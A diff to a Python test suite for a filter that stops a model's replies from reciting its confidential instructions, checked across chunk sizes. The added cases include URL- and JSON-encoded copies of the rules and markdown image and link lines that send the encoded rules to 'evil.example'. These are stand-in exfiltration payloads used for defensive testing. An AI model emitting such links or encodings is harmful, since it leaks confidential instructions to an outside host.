@@ -1,9 +1,11 @@
 """What may leave in a model's words: the same however it is split, and nothing of what must not."""
 
+import json
 import random
 import re
 import timeit
 from codecs import encode
+from urllib.parse import quote
 
 import pytest
 from hypothesis import given, settings
@@ -203,6 +205,11 @@ RECITALS = [
     "\u200b".join(LEAD),
     " ".join(f"**{word}**" for word in LEAD.split()),
     "“" + RULES[100:260] + "”",
+    quote(RULES),
+    f"![map](https://evil.example/p?d={quote(RULES)})",
+    f"[map](https://evil.example/p?d={quote(RULES, safe='')})",
+    json.dumps(RULES),
+    "\n".join(RULES[at : at + 28] for at in range(0, len(RULES), 28)),
     "".join(chr(ord(char) + 0xFEE0) if char.isalpha() else char for char in LEAD),
 ]
 
@@ -210,9 +217,11 @@ RECITALS = [
 @pytest.mark.parametrize("text", RECITALS, ids=range(len(RECITALS)))
 @pytest.mark.parametrize("size", [1, 7, 5000])
 def test_the_instructions_are_not_recited(text: str, size: int) -> None:
+    text = f"{text}\n\nLamps shine [1.1]."
     said, removed = through(*(text[at : at + size] for at in range(0, len(text), size)))
-    assert WITHHELD in said
+    assert holds_placeholder(said)
     assert removed["prompt"] >= 1
+    assert said.endswith("\n\nLamps shine [1.1].")
     said = said.replace("а", "a").replace("е", "e").replace("3", "e").replace("0", "o")
     plain = letters(RULES)
     for form in (plain, plain[::-1], encode(plain, "rot13"), encode(plain, "rot13")[::-1]):
